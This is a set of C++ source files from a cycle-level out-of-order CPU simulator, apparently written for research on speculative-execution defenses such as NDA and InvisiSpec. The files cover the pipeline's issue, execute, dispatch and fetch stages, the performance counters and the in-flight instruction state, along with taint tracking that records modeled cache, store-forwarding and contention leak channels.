            (tc.rob.empty() || tc.rob.front() != inst)) {
            return false;
        }
        if (inst->uop.op == Opcode::kRdMsr &&
            hasOlderWrmsr(inst->tid, inst->seq)) {
            return false;
        }
        if (inst->uop.isMemory() && mem_issued >= cfg_.core.memPorts)
            return false;
        // Multiplier/divider port contention (SMoTherSpectre
        // substrate): with mulDivPorts > 0 the long-latency unit has
        // limited issue bandwidth shared by both hardware threads.
        // 0 (the default) models fully pipelined units — no limit.
        if (cfg_.core.mulDivPorts > 0 &&
            (t.latency == LatencyClass::kMul ||
             t.latency == LatencyClass::kDiv) &&
            muldiv_issued >= cfg_.core.mulDivPorts) {
            return false;
        }

        bool rejected = false;
        executeInst(inst, mem_issued, muldiv_issued, rejected);
        if (rejected)
            return false;
        ++issued;
        inst->issued = true;
        inst->issuedAt = cycle_;
        counters_.dispatchToIssue.add(cycle_ - inst->dispatchedAt);
        if (PerfCounters *c = tcnt(inst->tid))
            c->dispatchToIssue.add(cycle_ - inst->dispatchedAt);
        return true;
    });
}

void
OooCore::executeInst(const DynInstPtr &inst, unsigned &mem_issued,
                     unsigned &muldiv_issued, bool &rejected)
{
    const MicroOp &uop = inst->uop;
    const OpTraits &t = uop.traits();
    const RegVal a = t.readsRs1 ? srcValue(inst->src1) : 0;
    const RegVal b = t.readsRs2 ? srcValue(inst->src2) : 0;

    rejected = false;

    // DIFT: the result taint defaults to the merge of the operands
    // read here; loads and MSR reads refine it below. A store's data
    // register (src2) is read at commit, not here — its taint is
    // sampled then.
    if (dift_) {
        TaintWord in = 0;
        if (t.readsRs1)
            in |= dift_->regTaint(inst->src1);
        if (t.readsRs2 && !uop.isStore())
            in |= dift_->regTaint(inst->src2);
        inst->taint = in;
    }

    if (t.isBranch) {
        if (t.hasDest)
            inst->result = inst->pc + 1; // link value
        if (t.isCondBranch)
            inst->actualTaken = evalCondBranch(uop.op, a, b);
        else
            inst->actualTaken = true;
        inst->actualNextPc = evalNextPc(uop, inst->pc, a, b);
        scheduleCompletion(inst, 1);
        return;
    }

    switch (uop.op) {
      case Opcode::kLoad:
        if (!executeLoad(inst)) {
            rejected = true;
            return;
        }
        ++mem_issued;
        return;
      case Opcode::kStore: {
        // Address phase only (split store micro-ops): the data
        // register is read at commit, once its producer broadcast.
        inst->effAddr = a + static_cast<Addr>(uop.imm);
        inst->addrTaint = inst->taint;
        if (!mem_.accessAllowed(inst->effAddr, uop.size, CpuMode::kUser))
            inst->fault = FaultType::kPrivilegedStore;
        ++mem_issued;
        scheduleCompletion(inst, 1); // address resolution
        return;
      }
      case Opcode::kClflush: {
        const Addr addr = a + static_cast<Addr>(uop.imm);
        hier_.flushLine(addr);
        // DIFT: an eviction keyed by a secret is as observable as a
        // fill (Flush+Flush-style transmit).
        if (dift_ && inst->taint) {
            inst->addrTaint = inst->taint;
            dift_->recordPending(inst->seq, inst->pc,
                                 LeakChannel::kDCache, "evict", addr,
                                 cycle_, inst->taint);
        }
        scheduleCompletion(inst, 1);
        return;
      }
      case Opcode::kPrefetch: {
        const Addr addr = a + static_cast<Addr>(uop.imm);
        AccessResult res;
        if (hier_.mshrEnabled()) {
            const MemRequestResult req = hier_.dataRequest(
                addr, cycle_, inst->seq, MshrTargetKind::kPrefetch,
                inst->tid);
            if (req.rejected()) {
                // Real prefetchers drop requests under MSHR pressure;
                // the hint completes with no cache-state change.
                scheduleCompletion(inst, 1);
                return;
            }
            res = {req.latency, req.level};
        } else {
            res = hier_.dataAccess(addr);
        }
        if (dift_ && inst->taint) {
            inst->addrTaint = inst->taint;
            dift_->recordPending(inst->seq, inst->pc,
                                 LeakChannel::kDCache,
                                 res.level != HitLevel::kL1
                                     ? "fill" : "lru-touch",
                                 addr, cycle_, inst->taint);
        }
        scheduleCompletion(inst, 1);
        return;
      }
      case Opcode::kRdMsr: {
        // Out-of-range indices fault like privileged ones; the
        // short-circuit keeps the mask shift defined and msrs[] in
        // bounds (matching the interpreter oracle).
        const unsigned idx = static_cast<unsigned>(uop.imm);
        const bool out_of_range =
            idx >= static_cast<unsigned>(kNumMsrRegs);
        const bool privileged =
            out_of_range || (prog_.privilegedMsrMask & (1u << idx));
        const bool flaw = secFor(inst->tid).meltdownFlaw;
        if (privileged) {
            inst->fault = FaultType::kPrivilegedMsr;
            // The Meltdown-class implementation flaw: the value still
            // propagates speculatively (paper §4.3 / LazyFP). An
            // out-of-range index has no architectural MSR behind it,
            // so even flawed silicon forwards 0.
            inst->result = flaw && !out_of_range
                               ? threads_[inst->tid].msrs[idx]
                               : 0;
        } else {
            inst->result = threads_[inst->tid].msrs[idx];
        }
        // DIFT: taint follows the value actually forwarded — fixed
        // silicon forwards 0, so nothing secret propagates.
        if (dift_) {
            const TaintWord vt =
                out_of_range || (privileged && !flaw)
                    ? 0 : dift_->msrTaint(idx);
            inst->taint = vt;
            if (vt)
                dift_->noteAccess(vt, inst->pc, cycle_);
        }
        scheduleCompletion(inst, 1);
        return;
      }
      case Opcode::kWrMsr: {
        const unsigned idx = static_cast<unsigned>(uop.imm);
        if (idx >= static_cast<unsigned>(kNumMsrRegs) ||
            (prog_.privilegedMsrMask & (1u << idx)))
            inst->fault = FaultType::kPrivilegedMsr;
        inst->storeData = a; // applied at completion
        scheduleCompletion(inst, 1);
        return;
      }
      case Opcode::kRdTsc:
        inst->result = cycle_;
        scheduleCompletion(inst, 1);
        return;
      case Opcode::kFence:
      case Opcode::kSpecOff:
      case Opcode::kSpecOn:
        scheduleCompletion(inst, 1);
        return;
      default:
        inst->result = evalAlu(uop.op, a, b, uop.imm);
        if (t.latency == LatencyClass::kMul ||
            t.latency == LatencyClass::kDiv) {
            ++muldiv_issued;
            // DIFT port-contention channel: a tainted op occupying a
            // *contended* long-latency port modulates the co-resident
            // thread's issue timing — observable cross-thread, and it
            // survives this op's squash (SMoTherSpectre).
            if (dift_ && inst->taint && numThreads_ > 1 &&
                cfg_.core.mulDivPorts > 0) {
                dift_->recordPending(inst->seq, inst->pc,
                                     LeakChannel::kPortContention,
                                     "port-busy", inst->pc, cycle_,
                                     inst->taint);
            }
        }
        scheduleCompletion(inst, opLatencyCycles(uop.op));
        return;
    }
}

bool
OooCore::executeLoad(const DynInstPtr &inst)
{
    const MicroOp &uop = inst->uop;
    const RegVal base = srcValue(inst->src1);
    const Addr addr = base + static_cast<Addr>(uop.imm);
    const SecurityConfig &sec = secFor(inst->tid);

    const StoreSearchResult search =
        lsq_.searchStores(inst->seq, addr, uop.size, regs_, inst->tid);
    inst->mshrRejected = false;
    if (search.mustStall)
        return false; // partial overlap: retry next cycle

    inst->effAddr = addr;
    inst->effAddrValid = true;
    inst->bypassedStores = search.bypassedStores;
    if (dift_)
        inst->addrTaint = dift_->regTaint(inst->src1);

    // Permission check (Meltdown substrate).
    const bool allowed =
        mem_.accessAllowed(addr, uop.size, CpuMode::kUser);
    if (!allowed)
        inst->fault = FaultType::kPrivilegedLoad;

    unsigned latency;
    if (search.forward) {
        inst->forwarded = true;
        inst->result = search.value;
        inst->hitLevel = HitLevel::kL1;
        latency = hier_.params().l1d.hitLatency;
        // DIFT: taint rides the forwarded store data; a tainted
        // *address* also taints the value (the selection of what to
        // read is itself secret-dependent — the BTB channel's flow).
        // If the store turns out to be wrong-path, its squash
        // promotes this into an SQ-forward leak event.
        if (dift_) {
            const DynInst &st = *search.forwardStore;
            const TaintWord vt =
                dift_->regTaint(st.src2) | inst->addrTaint;
            inst->taint = vt;
            if (vt) {
                dift_->noteAccess(vt, inst->pc, cycle_);
                dift_->recordPending(st.seq, st.pc,
                                     LeakChannel::kSqForward, "forward",
                                     addr, cycle_, vt);
            }
        }
    } else {
        RegVal data = mem_.read(addr, uop.size);
        if (!allowed && !sec.meltdownFlaw)
            data = 0; // fixed hardware: no forwarding of faulting data
        inst->result = data;

        // DIFT: value taint comes from the accessed bytes, plus the
        // address taint (what was read was chosen by a secret — the
        // flow the BTB channel transmits). Fixed silicon forwards a
        // clean zero, which depends on nothing.
        if (dift_) {
            TaintWord vt =
                dift_->memTaint(addr, uop.size) | inst->addrTaint;
            if (!allowed && !sec.meltdownFlaw)
                vt = 0;
            inst->taint = vt;
            if (vt)
                dift_->noteAccess(vt, inst->pc, cycle_);
        }

        // InvisiSpec: speculative loads access the hierarchy
        // invisibly (no fills / LRU updates).
        bool shadow = false;
        switch (sec.invisiSpec) {
          case InvisiSpecMode::kOff:
            break;
          case InvisiSpecMode::kSpectre:
            shadow = hasOlderUnresolvedBranch(inst->tid, inst->seq);
            break;
          case InvisiSpecMode::kFuture: {
            const ThreadContext &tc = threads_[inst->tid];
            shadow = tc.rob.empty() || tc.rob.front() != inst;
            break;
          }
        }
        AccessResult res;
        if (shadow) {
            res = hier_.dataPeek(addr);
            inst->shadowLoad = true;
            inst->peekLevel = res.level;
        } else {
            if (hier_.mshrEnabled()) {
                const MemRequestResult req = hier_.dataRequest(
                    addr, cycle_, inst->seq, MshrTargetKind::kLoad,
                    inst->tid);
                if (req.rejected()) {
                    // MSHR full: the load stays in the issue queue
                    // and retries next cycle, exactly like a
                    // partial-overlap store stall. Nothing was
                    // mutated, so the retry recomputes from scratch.
                    inst->effAddrValid = false;
                    inst->bypassedStores.clear();
                    inst->mshrRejected = true;
                    return false;
                }
                res = {req.latency, req.level};
                // DIFT MSHR-contention channel: a secret-indexed miss
                // occupied a *shared* MSHR entry — backpressure the
                // co-resident thread can time, and the occupancy is
                // not reverted by this load's squash.
                if (dift_ && inst->addrTaint && numThreads_ > 1 &&
                    req.status != MemReqStatus::kHit) {
                    dift_->recordPending(inst->seq, inst->pc,
                                         LeakChannel::kMshrContention,
                                         "mshr-occupy", addr, cycle_,
                                         inst->addrTaint);
                }
            } else {
                res = hier_.dataAccess(addr);
            }
            // DIFT: a secret-indexed access moved cache state (a fill,
            // or an LRU touch on a hit) — observable if squashed.
            if (dift_ && inst->addrTaint) {
                dift_->recordPending(inst->seq, inst->pc,
                                     LeakChannel::kDCache,
                                     res.level != HitLevel::kL1
                                         ? "fill" : "lru-touch",
                                     addr, cycle_, inst->addrTaint);
            }
        }
        inst->hitLevel = res.level;
        latency = res.latency;
        if (res.offChip()) {
            ++outstandingMisses_;
            inst->countedMiss = true;
        }
    }

    // NDA Bypass Restriction (paper §5.2): the load stays unsafe
    // until every bypassed store resolves its address.
    if (sec.bypassRestriction && !inst->bypassedStores.empty()) {
        inst->unsafeBypass = true;
        if (!inst->everUnsafe) {
            inst->everUnsafe = true;
            inst->unsafeMarkedAt = cycle_;
        }
    }

    scheduleCompletion(inst, latency);
    return true;
}

void
OooCore::scheduleCompletion(const DynInstPtr &inst, unsigned latency)
{
    completionEvents_.emplace(cycle_ + std::max(1u, latency), inst);
}

// --------------------------------------------------------------------------
// Dispatch / rename
// --------------------------------------------------------------------------

void
OooCore::dispatchStage()
{
    // Shared rename/dispatch bandwidth, same rotation order as
    // commit. Each thread keeps its own block reason (CPI stack).
    unsigned budget = cfg_.core.dispatchWidth;
    for (unsigned k = 0; k < numThreads_ && budget > 0; ++k) {
        const unsigned tid =
            (static_cast<unsigned>(cycle_) + k) % numThreads_;
        ThreadContext &tc = threads_[tid];
        tc.dispatchBlock = DispatchBlock::kNone;
        while (budget > 0) {
            if (tc.fetchQueue.empty()) {
                tc.dispatchBlock = DispatchBlock::kFetchEmpty;
                break;
            }
            DynInstPtr inst = tc.fetchQueue.front();
            if (cycle_ < inst->fetchedAt + cfg_.core.frontendDelay) {
                tc.dispatchBlock = DispatchBlock::kFrontendDelay;
                break;
            }
            if (robOccupancy() >= cfg_.core.robEntries) {
                tc.dispatchBlock = DispatchBlock::kRobFull;
                break;
            }
            // With SMT the IQ is statically partitioned: a thread may
            // hold at most its share of entries. A fully shared queue
            // lets one thread's long-latency burst (e.g. multiplies
            // draining through a single port) park in every slot and
            // lock the co-resident thread out of dispatch wholesale.
            if (iq_.full() ||
                (numThreads_ > 1 &&
                 iq_.occupancyOf(tid) >=
                     std::max(1u, cfg_.core.iqEntries / numThreads_))) {
                tc.dispatchBlock = DispatchBlock::kIqFull;
                break;
            }
            if (inst->isLoad() && lsq_.lqFull()) {
                tc.dispatchBlock = DispatchBlock::kLqFull;
                break;
            }
            if (inst->isStore() && lsq_.sqFull()) {
                tc.dispatchBlock = DispatchBlock::kSqFull;
                break;
            }
            if (inst->uop.traits().hasDest && !regs_.hasFree(tid)) {
                tc.dispatchBlock = DispatchBlock::kRegsFull;
                break;
            }
            tc.fetchQueue.pop_front();
            tc.refetchPending = false; // refilled pipe reached dispatch
            --budget;

            inst->seq = ++nextSeq_;
            inst->dispatchedAt = cycle_;

            const OpTraits &t = inst->uop.traits();
            if (t.readsRs1)
                inst->src1 = tc.rmap.lookup(inst->uop.rs1);
            if (t.readsRs2)
                inst->src2 = tc.rmap.lookup(inst->uop.rs2);
            if (t.hasDest) {
                inst->dest = regs_.alloc(tid);
                inst->prevDest =
                    tc.rmap.rename(inst->uop.rd, inst->dest);
            }

            // NDA unsafe marking at dispatch (paper §5.1/§5.2/§5.3),
            // per-thread policy: an unprotected context marks nothing
            // even while its co-resident victim defers everything.
            const SecurityConfig &sec = secFor(tid);
            if (!tc.unresolvedBranches.empty() &&
                sec.marksUnsafeUnderBranch(inst->uop)) {
                inst->unsafeBranch = true;
            }
            if (sec.loadRestriction && inst->isLoadLike())
                inst->unsafeLoad = true;
            if (inst->isUnsafe()) {
                inst->everUnsafe = true;
                inst->unsafeMarkedAt = cycle_;
                ++counters_.unsafeMarked;
                if (PerfCounters *c = tcnt(tid))
                    ++c->unsafeMarked;
            }

            if (inst->isSpecBranch())
                tc.unresolvedBranches.push_back(inst->seq);
            if (inst->uop.op == Opcode::kFence)
                tc.fencesInFlight.push_back(inst->seq);
            if (inst->uop.op == Opcode::kWrMsr)
                tc.wrmsrInFlight.push_back(inst->seq);

            tc.rob.push_back(inst);
            if (inst->isLoad())
                lsq_.insertLoad(inst);
            if (inst->isStore())
                lsq_.insertStore(inst);

            if (inst->uop.op == Opcode::kNop ||
                inst->uop.op == Opcode::kHalt) {
                inst->issued = true;
                inst->executed = true;
                inst->completedAt = cycle_;
            } else {
                iq_.insert(inst);
            }
        }
    }
}

// --------------------------------------------------------------------------
// Fetch
// --------------------------------------------------------------------------

unsigned
OooCore::pickFetchThread() const
{
    const auto fetchable = [this](unsigned t) {
        const ThreadContext &tc = threads_[t];
        return !tc.halted && !tc.fetchBlocked &&
               cycle_ >= tc.icacheStallUntil &&
               tc.fetchQueue.size() < cfg_.core.fetchQueueEntries;
    };
    if (cfg_.core.smtFetchPolicy == SmtFetchPolicy::kRoundRobin ||
        numThreads_ == 1) {
        for (unsigned k = 0; k < numThreads_; ++k) {
            const unsigned t =
                (static_cast<unsigned>(cycle_) + k) % numThreads_;
            if (fetchable(t))
                return t;
        }
        return numThreads_;
    }
    // ICOUNT: the thread with the fewest in-flight instructions
    // (front-end queue + ROB) gets the fetch slot; ties go to
    // rotation order.
    unsigned best = numThreads_;
    std::size_t best_count = 0;
    for (unsigned k = 0; k < numThreads_; ++k) {
        const unsigned t =
            (static_cast<unsigned>(cycle_) + k) % numThreads_;
        if (!fetchable(t))
            continue;
        const std::size_t count =
            threads_[t].fetchQueue.size() + threads_[t].rob.size();
        if (best == numThreads_ || count < best_count) {
            best = t;
            best_count = count;
        }
    }
    return best;
}

void
OooCore::fetchStage()
{
    // One thread owns the fetch engine per cycle (fine-grained SMT
    // front end). A single-thread core always picks thread 0, taking
    // exactly the pre-SMT path.
    const unsigned tid = pickFetchThread();
    if (tid >= numThreads_)
        return;
    fetchThread(tid);
}

void
OooCore::fetchThread(unsigned tid)
{
    ThreadContext &tc = threads_[tid];
    for (unsigned n = 0; n < cfg_.core.fetchWidth; ++n) {
        if (tc.fetchQueue.size() >= cfg_.core.fetchQueueEntries)
            break;
        if (!prog_.validPc(tc.fetchPc)) {
            // Wrong-path fetch ran off the program: models dispatch
            // stalling on an unknown opcode until squash redirects.
            tc.fetchBlocked = true;
            break;
        }

        const Addr fetch_addr = pcToFetchAddr(tc.fetchPc);
        const Addr line = fetch_addr / kLineSize;
        if (line != tc.lastFetchLine) {
            if (hier_.mshrEnabled()) {
                const MemRequestResult req =
                    hier_.instRequest(fetch_addr, cycle_);
                if (req.rejected()) {
                    // I-side MSHR full (only reachable after a squash
                    // raced an in-flight line): retry next cycle.
                    tc.icacheStallUntil = cycle_ + 1;
                    break;
                }
                tc.lastFetchLine = line;
                if (req.status != MemReqStatus::kHit) {
                    tc.icacheStallUntil = cycle_ + req.latency;
                    break;
                }
            } else {
                const AccessResult res = hier_.instAccess(fetch_addr);
                tc.lastFetchLine = line;
                if (res.level != HitLevel::kL1) {
                    tc.icacheStallUntil = cycle_ + res.latency;
                    break;
                }
            }
        }

        DynInstPtr inst = pool_.create();
        inst->uop = prog_.at(tc.fetchPc);
        inst->pc = tc.fetchPc;
        inst->tid = tid;
        inst->fetchedAt = cycle_;

        Addr next = tc.fetchPc + 1;
        if (inst->uop.isBranch()) {
            if (tc.specDisabled && inst->uop.isSpeculativeBranch()) {
                // Speculation-off window (paper SS8, Listing 4): do
                // not predict; fetch stalls until the branch resolves
                // and redirects (the sentinel never matches).
                inst->bpCkpt = bp_.capture();
                inst->predNextPc = ~Addr{0};
                tc.fetchQueue.push_back(inst);
                tc.fetchBlocked = true;
                break;
            }
            const BranchPrediction pred =
                bp_.predict(inst->uop, tc.fetchPc);
            inst->predTaken = pred.taken;
            inst->fromBtb = pred.fromBtb;
            inst->btbMiss = pred.btbMiss;
            inst->bpCkpt = pred.ckpt;
            next = pred.nextPc;
        }
        inst->predNextPc = next;
        tc.fetchQueue.push_back(inst);

        if (inst->uop.op == Opcode::kHalt) {
            tc.fetchBlocked = true;
            break;
        }
        const bool redirected = next != tc.fetchPc + 1;
        tc.fetchPc = next;
        if (redirected)
            break; // at most one taken control transfer per cycle
    }
}

} // namespace nda
