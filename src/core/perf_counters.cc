#include "core/perf_counters.hh"

#include "obs/stats_registry.hh"

namespace nda {

const char *
squashCauseName(SquashCause c)
{
    switch (c) {
      case SquashCause::kNone: return "none";
      case SquashCause::kBranchMispredict: return "branch-mispredict";
      case SquashCause::kMemOrderViolation: return "mem-order-violation";
      case SquashCause::kFault: return "fault";
      case SquashCause::kSerialize: return "serialize";
      default: return "?";
    }
}

void
PerfCounters::reset()
{
    cycles = 0;
    committedInsts = 0;
    for (auto &c : cycleClass)
        c = 0;
    condBranches = 0;
    condMispredicts = 0;
    indirectBranches = 0;
    indirectMispredicts = 0;
    squashes = 0;
    memOrderViolations = 0;
    faults = 0;
    loads = 0;
    stores = 0;
    mlpCycles = 0;
    mlpAccum = 0;
    ilpCycles = 0;
    ilpAccum = 0;
    deferredBroadcasts = 0;
    unsafeMarked = 0;
    for (auto &c : squashCause)
        c = 0;
    dispatchToIssue.reset();
    deferredBroadcastDelay.reset();
    unsafeResidency.reset();
}

void
PerfCounters::registerStats(StatsRegistry &reg,
                            const std::string &prefix) const
{
    const StatsRegistry::Group g = reg.group(prefix);

    g.counter("cycles", &cycles, "simulated cycles in the window");
    g.counter("committed_insts", &committedInsts,
              "architecturally retired instructions");
    g.formula("cpi", [this] { return cpi(); },
              "cycles per committed instruction");
    g.formula("ipc", [this] { return ipc(); },
              "committed instructions per cycle");

    const StatsRegistry::Group cyc = g.group("cycle_class");
    cyc.counter("commit",
                &cycleClass[static_cast<int>(CycleClass::kCommit)],
                "cycles retiring >=1 instruction (Fig 9a)");
    cyc.counter("mem_stall",
                &cycleClass[static_cast<int>(CycleClass::kMemoryStall)],
                "cycles stalled on an incomplete memory op at head");
    cyc.counter(
        "backend_stall",
        &cycleClass[static_cast<int>(CycleClass::kBackendStall)],
        "cycles stalled on an incomplete non-memory op at head");
    cyc.counter(
        "frontend_stall",
        &cycleClass[static_cast<int>(CycleClass::kFrontendStall)],
        "cycles with an empty ROB (fetch/squash recovery)");

    const StatsRegistry::Group br = g.group("branch");
    br.counter("cond", &condBranches, "committed conditional branches");
    br.counter("cond_mispredicts", &condMispredicts,
               "committed mispredicted conditional branches");
    br.formula("cond_mispredict_rate",
               [this] { return condMispredictRate(); },
               "conditional mispredicts / conditional branches");
    br.counter("indirect", &indirectBranches,
               "committed indirect branches");
    br.counter("indirect_mispredicts", &indirectMispredicts,
               "committed mispredicted indirect branches");

    const StatsRegistry::Group sq = g.group("squash");
    sq.counter("total", &squashes, "pipeline flushes (excl. SS8)");
    sq.counter("mem_order_violations", &memOrderViolations,
               "flushes from load/store order violations");
    sq.counter("branch_mispredict",
               &squashCause[static_cast<int>(
                   SquashCause::kBranchMispredict)],
               "flushes attributed to branch mispredicts");
    sq.counter("mem_order",
               &squashCause[static_cast<int>(
                   SquashCause::kMemOrderViolation)],
               "flushes attributed to memory-order violations");
    sq.counter("fault",
               &squashCause[static_cast<int>(SquashCause::kFault)],
               "flushes attributed to trap delivery");
    sq.counter("serialize",
               &squashCause[static_cast<int>(SquashCause::kSerialize)],
               "specon/specoff serializing refetches");
    g.counter("faults", &faults, "architecturally delivered faults");

    const StatsRegistry::Group mem = g.group("mem");
    mem.counter("loads", &loads, "committed loads");
    mem.counter("stores", &stores, "committed stores");
    mem.counter("mlp_cycles", &mlpCycles,
                "cycles with >=1 outstanding off-chip miss");
    mem.counter("mlp_accum", &mlpAccum,
                "sum of outstanding off-chip misses over mlp_cycles");
    mem.formula("mlp", [this] { return mlp(); },
                "memory-level parallelism (Chou et al., Fig 9b)");
    g.counter("ilp_cycles", &ilpCycles, "cycles with >=1 completion");
    g.counter("ilp_accum", &ilpAccum,
              "sum of completions over ilp_cycles");
    g.formula("ilp", [this] { return ilp(); },
              "instruction-level parallelism (Fig 9c)");

    const StatsRegistry::Group ndag = g.group("nda");
    ndag.counter("deferred_broadcasts", &deferredBroadcasts,
                 "tag broadcasts NDA deferred (unsafe at completion)");
    ndag.counter("unsafe_marked", &unsafeMarked,
                 "instructions marked unsafe at dispatch");
    ndag.histogram("deferred_delay", &deferredBroadcastDelay,
                   "complete-to-broadcast gap of deferred producers");
    ndag.histogram("unsafe_residency", &unsafeResidency,
                   "cycles spent unsafe before the clear walk");

    g.histogram("dispatch_to_issue", &dispatchToIssue,
                "dispatch-to-issue latency (Fig 9d)");
}

} // namespace nda
