#include "core/perf_counters.hh"

namespace nda {

void
PerfCounters::reset()
{
    cycles = 0;
    committedInsts = 0;
    for (auto &c : cycleClass)
        c = 0;
    condBranches = 0;
    condMispredicts = 0;
    indirectBranches = 0;
    indirectMispredicts = 0;
    squashes = 0;
    memOrderViolations = 0;
    faults = 0;
    loads = 0;
    stores = 0;
    mlpCycles = 0;
    mlpAccum = 0;
    ilpCycles = 0;
    ilpAccum = 0;
    deferredBroadcasts = 0;
    unsafeMarked = 0;
    dispatchToIssue.reset();
}

} // namespace nda
