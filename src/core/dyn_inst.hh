/**
 * @file
 * Dynamic (in-flight) instruction state for the OoO core, including
 * the NDA safety bits (unsafe / exec / bcast, paper §5.1) and the
 * InvisiSpec shadow-load state.
 */

#ifndef NDASIM_CORE_DYN_INST_HH
#define NDASIM_CORE_DYN_INST_HH

#include <cstdint>
#include <vector>

#include "branch/predictor_unit.hh"
#include "common/types.hh"
#include "core/perf_counters.hh"
#include "isa/microop.hh"
#include "mem/hierarchy.hh"

namespace nda {

class DynInstPool;

/** One in-flight instruction (a ROB entry). */
struct DynInst {
    MicroOp uop;
    Addr pc = 0;
    InstSeqNum seq = 0;
    /** Hardware thread context this instruction belongs to (SMT). */
    unsigned tid = 0;

    // --- front-end / prediction -----------------------------------------
    Addr predNextPc = 0;
    bool predTaken = false;
    bool fromBtb = false;
    bool btbMiss = false;
    BpCheckpoint bpCkpt;

    // --- rename ----------------------------------------------------------
    PhysRegId src1 = kInvalidPhysReg;
    PhysRegId src2 = kInvalidPhysReg;
    PhysRegId dest = kInvalidPhysReg;
    PhysRegId prevDest = kInvalidPhysReg;

    // --- pipeline status ---------------------------------------------------
    bool inIq = false;
    bool issued = false;
    bool executed = false;   ///< the paper's `exec` bit
    bool squashed = false;
    bool committed = false;
    bool broadcasted = false; ///< the paper's `bcast` bit

    // --- branch resolution -------------------------------------------------
    bool mispredicted = false;
    bool actualTaken = false;
    Addr actualNextPc = 0;

    // --- memory --------------------------------------------------------------
    Addr effAddr = 0;
    bool effAddrValid = false;
    RegVal storeData = 0;
    bool forwarded = false;       ///< load got data from the SQ
    /** Last issue attempt bounced off a full MSHR file (CPI stack). */
    bool mshrRejected = false;
    HitLevel hitLevel = HitLevel::kL1;
    bool countedMiss = false;     ///< contributes to the MLP counter
    /** Unresolved-address stores this load executed past (SSB). */
    std::vector<InstSeqNum> bypassedStores;

    // --- InvisiSpec ------------------------------------------------------------
    bool shadowLoad = false;      ///< executed as an invisible access
    bool exposed = false;         ///< fill/validation performed
    HitLevel peekLevel = HitLevel::kL1;
    Cycle validateDoneAt = 0;     ///< IS-Future validation completion
    bool validating = false;

    // --- results / faults ----------------------------------------------------
    RegVal result = 0;
    FaultType fault = FaultType::kNone;
    /** Trap delivery deadline once the faulting op reaches the head. */
    Cycle faultDeliverAt = 0;
    bool faultPending = false;

    // --- DIFT leakage oracle (meaningful only with an engine attached) -----
    /** Taint of the result value (secret bits, see dift/). */
    TaintWord taint = 0;
    /** Taint of the effective address / branch target inputs. */
    TaintWord addrTaint = 0;

    // --- NDA safety state (paper's `unsafe` bit, split by cause) -----------
    bool unsafeBranch = false;  ///< older unresolved speculative branch
    bool unsafeBypass = false;  ///< Bypass Restriction (SSB defense)
    bool unsafeLoad = false;    ///< load restriction (chosen-code defense)
    bool everUnsafe = false;    ///< was unsafe at any point (tracing)
    /** Cycle at which a deferred broadcast becomes eligible (Fig 9e). */
    Cycle bcastEligibleAt = 0;
    bool pendingBcast = false;  ///< queued for a deferred broadcast
    Cycle unsafeMarkedAt = 0;   ///< first cycle any unsafe bit was set
    Cycle unsafeClearedAt = 0;  ///< cycle the last unsafe bit cleared
    /** Why this instruction was flushed (kNone if not squashed). */
    SquashCause squashCause = SquashCause::kNone;

    // --- timing (for Fig 9d and breakdowns) --------------------------------
    Cycle fetchedAt = 0;
    Cycle dispatchedAt = 0;
    Cycle issuedAt = 0;
    Cycle completedAt = 0;
    Cycle broadcastedAt = 0;

    bool isUnsafe() const
    {
        return unsafeBranch || unsafeBypass || unsafeLoad;
    }

    bool hasDest() const { return uop.traits().hasDest; }
    bool isLoad() const { return uop.isLoad(); }
    bool isStore() const { return uop.isStore(); }
    bool isLoadLike() const { return uop.isLoadLike(); }
    bool isBranch() const { return uop.isBranch(); }
    bool isSpecBranch() const { return uop.isSpeculativeBranch(); }

    // --- intrusive pool bookkeeping (owned by DynInstPool) -----------------
    /** Non-atomic reference count — a core (and everything holding
     *  its instructions) lives on one thread; parallelism is at the
     *  simulation-window granularity. */
    std::uint32_t poolRefs_ = 0;
    DynInstPool *pool_ = nullptr;   ///< owning pool, for recycling
    DynInst *poolNext_ = nullptr;   ///< free-list link while recycled

    /** Return to default-constructed state, keeping the heap buffer
     *  of `bypassedStores` so recycled entries do not re-allocate. */
    void
    reset()
    {
        auto saved = std::move(bypassedStores);
        saved.clear();
        *this = DynInst{};
        bypassedStores = std::move(saved);
    }
};

} // namespace nda

#endif // NDASIM_CORE_DYN_INST_HH
