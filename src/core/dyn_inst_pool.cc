#include "core/dyn_inst_pool.hh"

namespace nda {

void
DynInstPool::grow()
{
    auto slab = std::make_unique<DynInst[]>(kSlabSize);
    // Chain in reverse so allocation proceeds slab[0], slab[1], ...
    // (consecutive addresses, friendlier to the cache).
    for (std::size_t i = kSlabSize; i-- > 0;)
        recycle(&slab[i]);
    slabs_.push_back(std::move(slab));
}

std::size_t
DynInstPool::freeCount() const
{
    std::size_t n = 0;
    for (const DynInst *p = freeList_; p; p = p->poolNext_)
        ++n;
    return n;
}

} // namespace nda
