#include "core/core_factory.hh"

#include "core/inorder_core.hh"
#include "core/ooo_core.hh"

namespace nda {

std::unique_ptr<CoreBase>
makeCore(const Program &prog, const SimConfig &cfg)
{
    if (cfg.inOrder)
        return std::make_unique<InOrderCore>(prog, cfg);
    return std::make_unique<OooCore>(prog, cfg);
}

} // namespace nda
