/**
 * @file
 * Performance counters for the evaluation figures: CPI, the Fig 9a
 * commit-cycle breakdown, MLP/ILP (Fig 9b/9c, following Chou et al.),
 * and dispatch-to-issue latency (Fig 9d). Supports window reset so
 * the SMARTS-style harness can warm up and then measure.
 */

#ifndef NDASIM_CORE_PERF_COUNTERS_HH
#define NDASIM_CORE_PERF_COUNTERS_HH

#include <cstdint>
#include <string>

#include "common/histogram.hh"
#include "common/types.hh"

namespace nda {

class StatsRegistry;

/** Classification of each simulated cycle (Fig 9a). */
enum class CycleClass : std::uint8_t {
    kCommit = 0,     ///< >=1 instruction retired this cycle
    kMemoryStall,    ///< ROB head is an incomplete memory op
    kBackendStall,   ///< ROB head is an incomplete non-memory op
    kFrontendStall,  ///< ROB empty or squash recovery in progress
    kNumClasses,
};

/** Why a pipeline flush happened (squash attribution). */
enum class SquashCause : std::uint8_t {
    kNone = 0,
    kBranchMispredict,   ///< resolved branch disagreed with fetch
    kMemOrderViolation,  ///< load executed past an overlapping store
    kFault,              ///< trap delivery flushed from the ROB head
    kSerialize,          ///< specon/specoff refetch (paper SS8)
    kNumCauses,
};

const char *squashCauseName(SquashCause c);

/** Aggregated core statistics over a measurement window. */
struct PerfCounters {
    Cycle cycles = 0;
    std::uint64_t committedInsts = 0;
    std::uint64_t cycleClass[static_cast<int>(CycleClass::kNumClasses)] =
        {};

    // Branches
    std::uint64_t condBranches = 0;
    std::uint64_t condMispredicts = 0;
    std::uint64_t indirectBranches = 0;
    std::uint64_t indirectMispredicts = 0;
    std::uint64_t squashes = 0;
    std::uint64_t memOrderViolations = 0;
